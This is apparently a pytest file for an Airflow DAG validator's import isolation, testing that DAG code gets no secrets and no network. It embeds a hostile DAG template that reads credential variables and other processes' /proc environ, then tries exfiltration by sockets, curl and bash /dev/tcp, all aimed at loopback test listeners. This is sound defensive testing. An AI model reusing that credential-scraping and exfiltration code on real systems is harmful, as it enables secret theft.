"""The import check runs the code of the files it checks (a pushed commit, a chat model's text):
that code gets an environment built from an allow-list, never the validating process's own, and
no network for its whole process tree. Real `adp dags validate` processes, real DAG files, real
listeners on loopback (UDP, TCP, a path and an abstract AF_UNIX socket)."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from adp_test_helpers.dag_corpus import dag
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

if TYPE_CHECKING:
    from adp.validation import ImportStandby

# The five: an `ssh_key_env`, a `token_env`, a webhook `secret_env`, Airflow's Fernet key
# and a database password, none of which a name-based filter of credentials caught all of.
PLANTED_NAMES = ("DEPLOY_KEY", "SALES_GIT_PAT", "SALES_HOOK_KEY", "AIRFLOW__CORE__FERNET_KEY",
                 "DB_PASS")  # fmt: skip

# What the hostile file runs, in its own process and in a child: one way to send per mode.
SENDER = r"""
import socket, struct, sys

def send(mode, payload, target):
    data = payload.encode()
    if mode == "unix":
        address = "\0" + target[1:] if target.startswith("@") else target
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(5)
        sock.connect(address)
        return sock.sendall(data)
    host, port = target.rsplit(":", 1)
    if mode == "tcp":
        return socket.create_connection((host, int(port)), timeout=5).sendall(data)
    if mode == "tcp-raw-connect":
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.settimeout(5)
        sock.connect((host, int(port)))
        return sock.sendall(data)
    if mode == "udp":  # no connect: sendto alone
        return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, (host, int(port)))
    if mode == "raw":  # a UDP datagram built by hand on a raw socket
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        header = struct.pack("!HHHH", 40000, int(port), 8 + len(data), 0)
        return sock.sendto(header + data, (host, 0))
    raise ValueError(mode)

if __name__ == "__main__":
    send(*sys.argv[1:4])
    print("sent")
"""

HOSTILE = """
import glob, json, os, subprocess, sys, tempfile
NAMES = {names!r}
TARGETS = {targets!r}
SENDER = {sender!r}
OBSERVED = os.path.join(tempfile.gettempdir(), "observed.json")  # the one folder it may write
TCP_PORT = {tcp_port!r}
seen = {{name: os.environ.get(name) for name in NAMES}}
stolen = []
for path in glob.glob("/proc/[0-9]*/environ"):  # another process's environment: the caller's
    try:
        with open(path, "rb") as handle:
            items = handle.read().decode(errors="replace").split(chr(0))
    except BaseException:
        continue
    stolen += [item for item in items if item.split("=", 1)[0] in NAMES]
payload = json.dumps({{"env": seen, "proc": stolen}})
outcome = {{}}


def attempt(name, call):
    try:
        outcome[name] = "done: " + repr(call())
    except BaseException as error:
        outcome[name] = "refused: " + type(error).__name__ + ": " + str(error)


scope = {{"__name__": "sender"}}
exec(SENDER, scope)
for mode, target in TARGETS:
    attempt("here " + mode, lambda m=mode, t=target: scope["send"](m, payload, t))
    attempt("child " + mode, lambda m=mode, t=target: subprocess.run(
        [sys.executable, "-c", SENDER, m, payload, t], capture_output=True, timeout=30
    ).returncode)
hexed = payload.encode().hex()[:2000]
attempt("os.system curl", lambda: os.system(
    "curl -s -m 5 -o /dev/null http://127.0.0.1:%d/%s" % (TCP_PORT, hexed)))
attempt("os.system bash", lambda: os.system(
    "bash -c 'echo %s > /dev/tcp/127.0.0.1/%d'" % (hexed, TCP_PORT)))
attempt("posix_spawn", lambda: os.waitpid(os.posix_spawn(
    sys.executable, [sys.executable, "-c", SENDER, "tcp", payload, "127.0.0.1:%d" % TCP_PORT],
    os.environ), 0))
with open(OBSERVED, "w") as handle:
    json.dump({{"seen": seen, "stolen": stolen, "outcome": outcome,
               "environ": dict(os.environ)}}, handle)
"""
# Imported after the hostile file by the same worker (--jobs 1): says what that file wrote in
# their temporary folder, as its import error (the hostile file's own error would not be shown
# next to its network attempts).
REPORTER = """
import os, tempfile
with open(os.path.join(tempfile.gettempdir(), "observed.json")) as handle:
    raise RuntimeError("observed: " + handle.read())
"""


def observed_of(findings: list[dict[str, object]]) -> dict[str, object]:
    """What the hostile file saw and did, from the reporter's import error."""
    message = next(
        str(f["message"]) for f in findings
        if Path(str(f["path"])).name == "corp_zz_observed.py" and f["rule"] == "ADP020"
    )  # fmt: skip
    return json.loads(message.split("observed: ", 1)[1])


@dataclass
class Listeners:
    """Sockets on loopback that a hostile file tries to reach; ``received`` drains them."""

    udp: socket.socket
    tcp: socket.socket
    unix: socket.socket
    abstract: socket.socket
    unix_path: str
    abstract_name: str
    seen: list[str] = field(default_factory=list)

    def targets(self) -> list[tuple[str, str]]:
        udp = f"127.0.0.1:{self.udp.getsockname()[1]}"
        tcp = f"127.0.0.1:{self.tcp.getsockname()[1]}"
        return [
            ("udp", udp),
            ("raw", udp),
            ("tcp", tcp),
            ("tcp-raw-connect", tcp),
            ("unix", self.unix_path),
            ("unix", "@" + self.abstract_name),
        ]

    def received(self) -> list[str]:
        got: list[str] = []
        self.udp.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while True:
                data, _ = self.udp.recvfrom(65536)
                got.append(f"udp: {data[:120]!r}")
        for name, listener in (("tcp", self.tcp), ("unix", self.unix), ("abstract", self.abstract)):
            listener.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                while True:
                    connection, _ = listener.accept()
                    connection.settimeout(2)
                    with contextlib.suppress(OSError):
                        got.append(f"{name}: {connection.recv(65536)[:120]!r}")
                    connection.close()
        return got


@pytest.fixture
def listeners() -> Iterator[Listeners]:
    folder = tempfile.mkdtemp(prefix="adp-iso-", dir="/tmp")  # AF_UNIX paths are short
    os.chmod(folder, 0o755)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    tcp = socket.create_server(("127.0.0.1", 0))
    unix_path = os.path.join(folder, "s")
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(unix_path)
    os.chmod(unix_path, 0o777)
    unix.listen(16)
    abstract_name = f"adp-iso-{uuid.uuid4().hex}"
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind("\0" + abstract_name)
    abstract.listen(16)
    found = Listeners(udp, tcp, unix, abstract, unix_path, abstract_name)
    try:
        yield found
    finally:
        for sock in (udp, tcp, unix, abstract):
            sock.close()
        with contextlib.suppress(OSError):
            os.unlink(unix_path)
            os.rmdir(folder)


@pytest.fixture
def planted() -> dict[str, str]:
    return {name: f"planted-{name.lower()}-{uuid.uuid4().hex}" for name in PLANTED_NAMES}


def hostile_folder(tmp_path: Path, listeners: Listeners) -> Path:
    """A folder with the hostile DAG file, and the file that reports what it saw and did."""
    folder = tmp_path / "dags"
    folder.mkdir()
    top = HOSTILE.format(
        names=list(PLANTED_NAMES),
        targets=listeners.targets(),
        sender=SENDER,
        tcp_port=listeners.tcp.getsockname()[1],
    )
    (folder / "corp_hostile.py").write_text(dag("corp_hostile", top=top))
    (folder / "corp_zz_observed.py").write_text(dag("corp_zz_observed", top=REPORTER))
    os.chmod(tmp_path, 0o755)
    return folder


def run_validate(folder: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess:
    """`adp dags validate --format json`, a real process with ``env`` as its whole environment."""
    return subprocess.run(
        [sys.executable, "-m", "adp", "dags", "validate", str(folder), "--package", "corp",
         "--format", "json", "--jobs", "1", *args],
        env=env, capture_output=True, text=True, timeout=300, cwd=folder.parent,
    )  # fmt: skip


def assert_nothing_leaked(
    result: subprocess.CompletedProcess, planted: dict[str, str], got: list[str]
) -> dict[str, object]:
    assert got == [], f"the listeners received: {got}"
    seen = observed_of(json.loads(result.stdout)["findings"])
    for name, value in planted.items():
        assert value not in result.stdout, name
        assert value not in result.stderr, name
        assert value not in json.dumps(seen), f"the imported code read {name}"
    assert seen["seen"] == dict.fromkeys(PLANTED_NAMES), seen["seen"]
    assert seen["stolen"] == []
    return seen


def test_hostile_file_gets_no_secret_and_no_network_in_its_namespace(
    tmp_path: Path, listeners: Listeners, planted: dict[str, str]
) -> None:
    """The issue's attack, with the operating system's isolation: the five variables are set in
    the validating process; the file finds none of them (neither in its environment nor in
    /proc/*/environ), and every way out fails: UDP sendto without connect, raw, TCP, a path and an
    abstract AF_UNIX socket, in its own process and in children (subprocess, os.system with curl
    and bash's /dev/tcp, posix_spawn)."""
    folder = hostile_folder(tmp_path, listeners)
    env = {**os.environ, **planted}
    env.pop("ADP_IMPORT_ISOLATION", None)
    result = run_validate(folder, env)
    seen = assert_nothing_leaked(result, planted, listeners.received())
    report = json.loads(result.stdout)
    assert not [f for f in report["findings"] if f["rule"] in ("ADP025", "ADP026")], report
    assert any("network namespace" in note for note in report["notes"]), report["notes"]
    outcome = seen["outcome"]
    for attempt, what in outcome.items():  # children may start; none of them gets out
        assert what.startswith("refused") or what != "done: 0", (attempt, what)
    assert outcome["child udp"] != "done: 0" and outcome["os.system curl"] != "done: 0"


def test_hostile_file_gets_no_secret_and_no_network_with_in_process_isolation(
    tmp_path: Path, listeners: Listeners, planted: dict[str, str]
) -> None:
    """The same attack where no namespace is available (forced): nothing leaks either; the
    in-process block refuses every socket operation and every new process, and the report
    says, as a finding, that the isolation was the weaker one."""
    folder = hostile_folder(tmp_path, listeners)
    env = {**os.environ, **planted, "ADP_IMPORT_ISOLATION": "in-process"}
    result = run_validate(folder, env)
    seen = assert_nothing_leaked(result, planted, listeners.received())
    report = json.loads(result.stdout)
    weaker = [f for f in report["findings"] if f["rule"] == "ADP026"]
    assert len(weaker) == 1 and weaker[0]["severity"] == "warning", report["findings"]
    assert "in-process" in weaker[0]["message"] and "ADP_IMPORT_ISOLATION" in weaker[0]["message"]
    assert any(f["rule"] == "ADP023" for f in report["findings"])  # the attempts are reported
    for attempt, what in seen["outcome"].items():
        assert what.startswith("refused"), (attempt, what)


# -- the standby (ImportStandby) ----------------------------------------------------------
def descendants(pid: int) -> list[int]:
    """``pid`` and every process under it."""
    found, queue = [], [pid]
    while queue:
        current = queue.pop()
        found.append(current)
        for task in Path(f"/proc/{current}/task").glob("*/children"):
            with contextlib.suppress(OSError):
                queue += [int(child) for child in task.read_text().split()]
    return found


def test_standby_is_started_isolated_with_the_allow_listed_environment(
    tmp_path: Path,
    listeners: Listeners,
    planted: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """An ImportStandby's worker, started while the five variables are set, holds none of them
    in any of its processes, runs in the namespaces, and the hostile file it then imports gets
    nothing out."""
    from adp.validation import ImportStandby, ValidationOptions, validate

    for name, value in planted.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("ADP_IMPORT_ISOLATION", raising=False)
    warm = ImportStandby().start()
    try:
        standby = waiting_standby(warm)
        processes = started_tree(standby)  # unshare, and the worker under it
        command = Path(f"/proc/{standby}/cmdline").read_bytes().split(b"\0")
        assert Path(command[0].decode()).name == "unshare" and b"--net" in command
        for pid in processes:
            environ = Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
            assert not [v for v in planted.values() if v in environ], pid
            names = {item.split("=", 1)[0] for item in environ.split("\0") if item}
            assert names & set(PLANTED_NAMES) == set()
        folder = hostile_folder(tmp_path, listeners)
        before = warm.stats().hits
        report = validate([str(folder)], ValidationOptions(package="corp", jobs=1), warm)
        assert warm.stats().hits == before + 1 and warm.stats().last_pid == standby
    finally:
        warm.stop()
    got = listeners.received()
    assert got == []
    seen = observed_of(report.model_dump()["findings"])
    assert seen["seen"] == dict.fromkeys(PLANTED_NAMES) and seen["stolen"] == []
    assert not [v for v in planted.values() if v in report.model_dump_json()]


def started_tree(pid: int, timeout: float = 30) -> list[int]:
    """The processes of a standby once its worker (python under unshare) has started."""
    import time

    deadline = time.monotonic() + timeout
    while True:
        processes = descendants(pid)
        commands = [Path(f"/proc/{p}/cmdline").read_bytes() for p in processes]
        if all(commands) and any(b"-c\0" in command for command in commands[1:]):
            return processes
        assert time.monotonic() < deadline, commands
        time.sleep(0.02)


def waiting_standby(warm: ImportStandby, timeout: float = 30) -> int:
    import time

    deadline = time.monotonic() + timeout
    while (pid := warm.stats().standby_pid) is None:
        assert time.monotonic() < deadline, "no standby started"
        time.sleep(0.02)
    return pid


# -- the environment: an allow-list, whatever the caller holds -----------------------------
# Its import error carries the environment, hex-encoded (no value shows in the report as is).
DUMP_ENV = """
import json, os
raise RuntimeError("environ: " + json.dumps(dict(os.environ)).encode().hex())
"""
# Names next to the allow-list's, the worker's own and the platform's: none may get through.
NEAR_MISSES = ["PATHX", "XPATH", "PATH_", "LANGX", "LANGUAGE2", "TZ_", "TZDATA", "LC", "LCALL",
               "TMPDIR2", "PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "LD_PRELOAD", "AIRFLOW_HOME",
               "AIRFLOW__CORE__DAGS_FOLDER", "AIRFLOW__CORE__FERNET_KEY", "AIRFLOW_CONN_DB",
               "ADP_AIRFLOW_TOKEN", "AWS_SECRET_ACCESS_KEY", "GIT_ASKPASS", "SSH_AUTH_SOCK",
               "DOCKER_HOST", "KRB5CCNAME", "NETRC", "home", "path"]  # fmt: skip


def caller_variables() -> st.SearchStrategy[dict[str, str]]:
    """Variables a validating process may hold: any name that is not of the allow-list (nor
    one this test process needs), any value."""
    from adp.validation.import_environment import allowed

    names = st.one_of(
        st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,40}", fullmatch=True), st.sampled_from(NEAR_MISSES)
    ).filter(lambda name: not allowed(name) and name not in os.environ)
    values = st.text(
        st.characters(blacklist_categories=("Cs",), blacklist_characters="\0"), max_size=40
    )
    return st.dictionaries(names, values, min_size=1, max_size=25)


@contextlib.contextmanager
def environment(variables: dict[str, str]) -> Iterator[None]:
    saved = {name: os.environ.get(name) for name in variables}
    os.environ.update(variables)
    try:
        yield
    finally:
        for name, value in saved.items():
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value


@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(variables=caller_variables(), data=st.data())
def test_the_worker_sees_the_allow_list_and_what_is_passed_nothing_else(
    variables: dict[str, str], data: st.DataObject
) -> None:
    """A real worker's file dumps its os.environ: exactly the allow-listed variables the
    caller has, the names passed (pass_env, drawn from those the platform lets through) and
    the worker's own settings; no value of the caller's other variables, anywhere."""
    from adp.validation import ValidationOptions, validate
    from adp.validation.import_environment import WORKER_SETS, allowed, pass_env_problem

    marker = uuid.uuid4().hex
    planted = {name: f"{marker}{index}{value}" for index, (name, value) in
               enumerate(variables.items())}  # fmt: skip
    # (a passed PYTHON* or LD_* variable with a random value may stop the interpreter itself)
    passable = sorted(
        n for n in planted if pass_env_problem(n) is None and not n.startswith(("PYTHON", "LD_"))
    )
    passed = data.draw(
        st.lists(st.sampled_from(passable), unique=True) if passable else st.just([])
    )
    with tempfile.TemporaryDirectory() as folder, environment(planted):
        (Path(folder) / "corp_env_dump.py").write_text(dag("corp_env_dump", top=DUMP_ENV))
        report = validate([folder], ValidationOptions(package="corp", pass_env=passed))
        expected_allowed = {name for name in os.environ if allowed(name)}
        message = next(f.message for f in report.findings if f.rule == "ADP020")
        seen = json.loads(bytes.fromhex(message.split("environ: ", 1)[1].strip()))
    assert set(seen) == expected_allowed | set(passed) | WORKER_SETS, report.notes
    for name in passed:
        assert seen[name] == planted[name]
    withheld_values = [v for n, v in seen.items() if n not in passed]
    assert not [v for v in withheld_values if marker in v]
    assert marker not in report.model_dump_json()


@settings(max_examples=300, deadline=None)
@given(variables=caller_variables(), extra=st.dictionaries(
    st.sampled_from(["PATH", "LANG", "LC_ALL", "LC_CTYPE", "TZ", "TMPDIR", "LANGUAGE"]),
    st.text(max_size=10).filter(lambda v: "\0" not in v)), data=st.data())  # fmt: skip
def test_worker_environment_is_the_allow_list_plus_passed_minus_withheld(
    variables: dict[str, str], extra: dict[str, str], data: st.DataObject
) -> None:
    """The function every worker's environment comes from, over any caller environment: the
    allow-listed names it has, plus the passed names it has, minus the withheld ones (even an
    allow-listed name the platform's settings named as a credential)."""
    from adp.validation.import_environment import FIXED, pass_env_problem, worker_environment

    caller = {**variables, **extra}
    withheld = set(data.draw(st.lists(st.sampled_from(sorted(caller)), max_size=3)))
    passable = sorted(n for n in caller if pass_env_problem(n, withheld) is None)
    passed = data.draw(
        st.lists(st.sampled_from(passable), unique=True) if passable else st.just([])
    )
    env = worker_environment(passed, withheld, caller)
    assert set(env) == ((set(extra) | set(passed)) - withheld) | set(FIXED)
    assert all(env[name] == caller[name] for name in env if name not in FIXED)
    assert {name: env[name] for name in FIXED} == FIXED  # never the caller's
    for name in set(caller) - set(passable) - set(extra):
        with pytest.raises(ValueError, match=name):
            worker_environment([name], withheld, caller)


# -- the image target ----------------------------------------------------------------------
def test_image_target_passes_no_variable_but_the_named_ones(
    tmp_path: Path, planted: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """`docker run` is given no -e/--env but `--env=NAME` for each name passed (docker copies
    that value only: a container gets none of the client's variables otherwise), no env file,
    no value on its command line, and no network."""
    from adp.validation import ImportTarget, ValidationOptions, validate

    for name, value in planted.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("CORP_REGION", "eu")
    calls = tmp_path / "docker-argv"
    docker = tmp_path / "docker"
    docker.write_text(f'#!/bin/sh\nfor a in "$@"; do printf "%s\\0" "$a"; done > {calls}\nexit 3\n')
    docker.chmod(0o755)
    monkeypatch.setenv("DOCKER", str(docker))
    folder = tmp_path / "dags"
    folder.mkdir()
    (folder / "corp_image.py").write_text(dag("corp_image"))
    options = ValidationOptions(
        package="corp", target=ImportTarget(image="corp/airflow:1"), pass_env=["CORP_REGION"]
    )
    report = validate([str(folder)], options)
    argv = calls.read_bytes().decode().split("\0")[:-1]
    assert argv[0] == "run" and "--network=none" in argv
    options_given = argv[: argv.index("corp/airflow:1")]
    assert [a for a in options_given if a.startswith(("-e", "--env"))] == ["--env=CORP_REGION"]
    assert not [v for v in planted.values() if v in "\0".join(argv)]
    assert [f.rule for f in report.findings if f.rule.startswith("ADP02")] == ["ADP025"]


# -- a normal DAG, end to end --------------------------------------------------------------
@pytest.mark.parametrize("isolation", ["auto", "in-process"])
def test_a_normal_dag_imports_under_either_isolation(
    tmp_path: Path, isolation: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Airflow imports an ordinary DAG file (one that imports requests, which probes for IPv6
    at import) with no network and the allow-listed environment: no finding under the
    namespace; under the forced fallback only ADP026, which says so."""
    from adp.validation import ValidationOptions, validate

    monkeypatch.setenv("ADP_IMPORT_ISOLATION", isolation)
    folder = tmp_path / "dags"
    folder.mkdir()
    (folder / "corp_normal.py").write_text(
        dag("corp_normal", top="import json\nimport subprocess\n\nimport requests", task="return 1")
    )
    report = validate([str(folder)], ValidationOptions(package="corp"))
    assert [d.dag_id for d in report.dags] == ["corp_normal"]
    rules = [f.rule for f in report.active()]
    if isolation == "auto":
        assert rules == [] and "network namespace" in " ".join(report.notes)
    else:
        assert rules == ["ADP026"] and "in-process isolation only" in " ".join(report.notes)


def test_namespace_required_where_there_is_none_is_one_finding(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """ADP_IMPORT_ISOLATION=namespace on a machine that gives none (here: no unshare on PATH):
    the import check does not run weaker; it is ADP025 with the reason, nothing imported."""
    from adp.validation import ValidationOptions, validate

    monkeypatch.setenv("ADP_IMPORT_ISOLATION", "namespace")
    monkeypatch.setenv("PATH", str(tmp_path / "empty-bin"))
    folder = tmp_path / "dags"
    folder.mkdir()
    marker = tmp_path / "imported"
    (folder / "corp_required.py").write_text(
        dag("corp_required", top=f"open({str(marker)!r}, 'w').close()")
    )
    report = validate([str(folder)], ValidationOptions(package="corp"))
    unavailable = [f for f in report.findings if f.rule == "ADP025"]
    assert len(unavailable) == 1 and "no unshare" in unavailable[0].message
    assert "ADP_IMPORT_ISOLATION=namespace" in unavailable[0].message
    assert not marker.exists()


# -- the fallback's operating-system layer -------------------------------------------------
def test_fallback_filter_holds_for_processes_the_in_process_guard_never_sees(
    listeners: Listeners,
) -> None:
    """The worker's seccomp filter of the in-process isolation, installed in a process with
    no audit hook at all: neither that process nor the children it starts (python, curl,
    bash's /dev/tcp) can open a socket of any family; the listeners get nothing."""
    from adp.validation.import_check import WORKER

    payload = "the-fallback-filter"
    tcp_port = listeners.tcp.getsockname()[1]
    script = (
        f"scope = {{'__name__': 'worker'}}\nexec({WORKER.read_text()!r}, scope)\n"
        "assert scope['_install_seccomp'](False) == ''\n"
        "import subprocess, sys, json\n"
        f"sender = {SENDER!r}\n"
        "codes = {}\n"
        f"for mode, target in {listeners.targets()!r}:\n"
        "    codes[mode + ' ' + target] = subprocess.run([sys.executable, '-c', sender, mode, "
        f"{payload!r}, target], capture_output=True).returncode\n"
        "codes['curl'] = subprocess.run(['curl', '-s', '-m', '5', "
        f"'http://127.0.0.1:{tcp_port}/{payload}']).returncode\n"
        "codes['bash'] = subprocess.run(['bash', '-c', "
        f"'echo {payload} > /dev/tcp/127.0.0.1/{tcp_port}']).returncode\n"
        "print(json.dumps(codes))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=120, check=True
    )
    codes = json.loads(done.stdout.splitlines()[-1])
    assert all(code != 0 for code in codes.values()), codes
    assert listeners.received() == []
